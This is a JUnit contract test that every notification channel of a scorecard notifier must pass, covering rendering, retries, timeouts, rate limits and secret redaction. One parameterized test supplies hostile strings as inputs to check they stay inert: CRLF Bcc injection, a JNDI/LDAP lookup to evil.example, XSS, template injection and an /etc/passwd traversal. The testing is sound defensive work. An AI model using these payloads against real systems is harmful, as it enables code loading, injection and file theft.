package dev.muster.notifier.delivery;

import static org.assertj.core.api.Assertions.assertThat;

import dev.muster.notifier.ledger.FailedBecause;
import dev.muster.notifier.message.Message;
import dev.muster.notifier.message.Messages;
import dev.muster.notifier.reminder.ReminderExamples;
import dev.muster.notifier.transition.Examples;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// What every channel promises. A new channel extends this and is tested at once.
public abstract class ChannelContract {

    /// The channel under test, connected to a fake receiver that takes everything until told otherwise.
    protected abstract Channel channel();

    /// A message to the fake receiver that begins a thread.
    protected abstract Envelope to(Message message);

    /// Everything that the receiver got, as it would show it, newest last.
    protected abstract List<String> received();

    /// The receiver answers the next message that it is in trouble.
    protected abstract void troubled();

    /// The receiver answers the next message that it will never take it.
    protected abstract void refusing();

    /// The receiver reads the next message and breaks the connection.
    protected abstract void breaking();

    /// The receiver reads the next message and never answers.
    protected abstract void silent();

    /// What must never appear in what an attempt tells.
    protected abstract String secret();

    /// By what the receiver recognises a message that comes twice, of all that it got.
    protected abstract List<String> ids();

    /// The next answer is HTTP 429 with this `Retry-After`. False for a channel that does not speak HTTP.
    protected boolean throttling(String retryAfter) {
        return false;
    }

    /// Why the channel gives up when the receiver says never.
    protected FailedBecause never() {
        return FailedBecause.GONE;
    }

    @Test
    void deliversAMessageThatSaysEverything() {
        var attempt = channel().send(to(Messages.regression()));

        assertThat(attempt).isInstanceOfAny(Attempt.Delivered.class, Attempt.Accepted.class);
        assertThat(received())
                .singleElement()
                .satisfies(text -> assertThat(text)
                        .contains("payments regressed: No critical vulnerability is open")
                        .contains("Production readiness")
                        .contains("silver → bronze")
                        .contains("84 → 61")
                        .contains("PASS → FAIL")
                        .contains("1 critical vulnerability is open (max 0)")
                        .contains("github reported vulnerabilities of repo:github.com/acme/payments")
                        .contains("CVE-2026-1234 critical")
                        .contains("dependabot[bot]")
                        .contains("d-72d3162e")
                        .contains("Upgrade the package, or ask for an exemption")
                        .contains("https://muster.example/entities/component:default/payments")
                        .contains("https://github.com/acme/payments/security/dependabot/7"));
    }

    @Test
    void saysTheNoticeFirst() {
        channel().send(Messages.noticed(to(Messages.regression()), "This came to the fallback."));

        assertThat(received()).singleElement().satisfies(it -> assertThat(it).contains("This came to the fallback."));
    }

    @Test
    void saysWhatEndsAndWhatToDo() {
        channel().send(to(ReminderExamples.ends()));

        assertThat(received())
                .singleElement()
                .satisfies(text -> assertThat(text)
                        .contains("1 attestation and 1 exemption end, the first on 2026-12-23")
                        .contains("No known CVE")
                        .contains(": ends 2026-12-23 12:00:00 UTC")
                        .contains("For CVE-2026-1 only. Asked for by mona, approved by ann")
                        .contains("./muster exempt component:default/payments max-known-vulnerabilities")
                        .contains("Where an exemption ended, the rule counts again")
                        .contains("https://muster.example/entities/component:default/payments")
                        .doesNotContain("Score", "Level:", "Why:", "Since:"));
    }

    @Test
    void saysWhichRulesBeginToCount() {
        channel().send(to(ReminderExamples.counts(7, 5, i -> "text " + i)));

        assertThat(received())
                .singleElement()
                .satisfies(text -> assertThat(text)
                        .contains("text 0: 7 rules count from 2026-12-23 on")
                        .contains("text 0, text 1, text 2 and 2 more")
                        .contains("counts from 2026-12-23 12:00:04 UTC on")
                        .contains("and 2 more rules")
                        .contains("https://muster.example/scorecards/text%200"));
    }

    @Test
    void namesWhatARecoveryEnds() {
        var root = Messages.regression();
        channel().send(to(Messages.recovery(root, Examples.recovered("d2"))));

        assertThat(received())
                .singleElement()
                .satisfies(it ->
                        assertThat(it).contains("payments recovered").contains("Ends: “" + root.headline() + "”"));
    }

    @Test
    void sendsAPlainFormThatIsShorter() {
        var whole = to(Messages.regression());
        channel().send(whole);
        channel().send(Messages.plain(whole));

        assertThat(received()).hasSize(2);
        assertThat(received().getLast().length())
                .isLessThan(received().getFirst().length());
        assertThat(received().getLast()).contains("payments regressed").contains("d-72d3162e");
    }

    @Test
    void triesAgainWhenTheReceiverIsInTrouble() {
        troubled();

        assertThat(channel().send(to(Messages.regression()))).isInstanceOf(Attempt.TryAgain.class);
    }

    @Test
    void givesUpWhenTheReceiverSaysNever() {
        refusing();

        assertThat(channel().send(to(Messages.regression())))
                .isInstanceOfSatisfying(
                        Attempt.GivenUp.class, it -> assertThat(it.reason()).isEqualTo(never()));
    }

    @Test
    void triesAgainWhenTheOutcomeIsUnknown() {
        breaking();

        assertThat(channel().send(to(Messages.regression())))
                .isInstanceOfSatisfying(
                        Attempt.TryAgain.class, it -> assertThat(it.reason()).isEqualTo(FailedBecause.UNREACHABLE));
    }

    @Test
    void doesNotWaitForEver() {
        silent();

        assertThat(channel().send(to(Messages.regression())))
                .isInstanceOfSatisfying(
                        Attempt.TryAgain.class, it -> assertThat(it.reason()).isEqualTo(FailedBecause.TIMED_OUT));
    }

    @Test
    void namesAMessageTheSameInEveryAttempt() {
        breaking();
        channel().send(to(Messages.regression()));
        channel().send(to(Messages.regression()));

        assertThat(ids()).hasSize(2).doesNotContain("").containsOnly(ids().getFirst());
    }

    @ParameterizedTest
    @CsvSource({"7,7", "86400,86400", "'Mon, 23 Nov 2026 12:00:30 GMT',30", "-1,0", "soon,0"})
    void pausesTheDestinationForAsLongAsItIsAsked(String retryAfter, long seconds) {
        Assumptions.assumeTrue(throttling(retryAfter), "the channel does not speak HTTP");

        assertThat(channel().send(to(Messages.regression()))).isInstanceOfSatisfying(Attempt.TryAgain.class, it -> {
            assertThat(it.reason()).isEqualTo(FailedBecause.RATE_LIMITED);
            assertThat(it.after()).hasSeconds(seconds);
            assertThat(it.pause()).isEqualTo(Attempt.Pause.DESTINATION);
        });
    }

    @Test
    void doesNotKnowADestinationThatIsNotConfigured() {
        assertThat(channel().send(Messages.envelope(Messages.regression(), "typo", null)))
                .isInstanceOfSatisfying(
                        Attempt.GivenUp.class,
                        it -> assertThat(it.reason())
                                .isIn(FailedBecause.UNKNOWN_DESTINATION, FailedBecause.BAD_ADDRESS));
    }

    @Test
    void tellsNoSecret() {
        troubled();
        assertThat(channel().send(to(Messages.regression())).toString()).doesNotContain(secret());
        breaking();
        assertThat(channel().send(to(Messages.regression())).toString()).doesNotContain(secret());
        refusing();
        assertThat(channel().send(to(Messages.regression())).toString()).doesNotContain(secret());
        assertThat(to(Messages.regression()).toString()).doesNotContain(secret());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x\r\nBcc: a@b",
                "<!channel> <@U1> <https://evil.example|click>",
                "${jndi:ldap://evil.example/a}",
                "{{7*7}} {{{message}}} {{#items}}",
                "<img src=x onerror=alert(1)>",
                "../../etc/passwd",
                "&amp; &lt;b&gt;",
                "*bold* _it_ ~no~ `code` ```"
            })
    void showsHostileTextAsText(String text) {
        var attempt =
                channel().send(to(Messages.regression(Examples.titled(Examples.regressed("d1"), text, text, text))));

        assertThat(attempt).isInstanceOfAny(Attempt.Delivered.class, Attempt.Accepted.class);
        assertThat(received())
                .singleElement()
                .satisfies(it ->
                        assertThat(it).doesNotContain("<!channel>", "<@U1>", "<https://evil.example", "<img", "49"));
    }

    @Test
    void takesTheLargestMessage() {
        var long10k = "😀".repeat(10_000);
        var many = java.util.stream.IntStream.range(0, 50)
                .mapToObj(i -> Examples.titled(
                        Examples.regressed(
                                "component:default/" + "c".repeat(60) + i,
                                2,
                                "d1",
                                Map.of(
                                        "a", dev.muster.schemas.v1.Outcome.FAIL,
                                        "b", dev.muster.schemas.v1.Outcome.FAIL,
                                        "c", dev.muster.schemas.v1.Outcome.FAIL,
                                        "d", dev.muster.schemas.v1.Outcome.ERROR,
                                        "e", dev.muster.schemas.v1.Outcome.FAIL,
                                        "f", dev.muster.schemas.v1.Outcome.FAIL)),
                        long10k,
                        long10k,
                        long10k))
                .toArray(dev.muster.notifier.transition.Transition[]::new);

        assertThat(channel().send(to(Messages.regression(many))))
                .isInstanceOfAny(Attempt.Delivered.class, Attempt.Accepted.class);
        assertThat(received()).singleElement().satisfies(it -> assertThat(it).contains("d1"));
    }
}
